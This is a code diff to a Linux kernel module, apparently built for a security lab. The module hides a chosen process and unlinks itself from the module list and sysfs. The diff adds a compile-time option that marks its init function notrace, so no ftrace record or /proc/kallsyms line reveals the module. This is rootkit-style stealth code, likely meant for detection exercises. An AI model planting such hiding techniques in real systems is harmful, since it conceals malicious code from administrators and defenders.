@@ -9,7 +9,8 @@
 //      so `ls /proc` and `ps` no longer show that process;
 //   2. unlinks itself from the kernel's module list (list_del of THIS_MODULE->list), so
 //      /proc/modules, lsmod and the module symbols of /proc/kallsyms no longer name it;
-//   3. with hide_sysfs=1, also removes its /sys/module/hide_pid directory (kobject_del).
+//   3. with hide_sysfs=1, also removes its /sys/module/hide_pid directory (kobject_del);
+//   4. built with -DHIDE_PID_NOTRACE_INIT, leaves no ftrace record of its init function.
 // It can never be unloaded (no exit function, and the module list no longer holds it): the lab
 // powers the guest off instead.
 //
@@ -116,7 +117,16 @@ static unsigned long lookup_name(const char *name)
 	return kallsyms_lookup ? kallsyms_lookup(name) : 0;
 }
 
-static int __init hide_pid_init(void)
+// Built with KCFLAGS=-DHIDE_PID_NOTRACE_INIT (scenario module-hide-notrace) the init function has
+// no ftrace call site, so ftrace keeps no record of it once init memory is freed: no line of
+// /proc/kallsyms names the module any more (docs/kernel-lab.md).
+#ifdef HIDE_PID_NOTRACE_INIT
+#define HP_INIT __init notrace
+#else
+#define HP_INIT __init
+#endif
+
+static int HP_INIT hide_pid_init(void)
 {
 	int err;
 
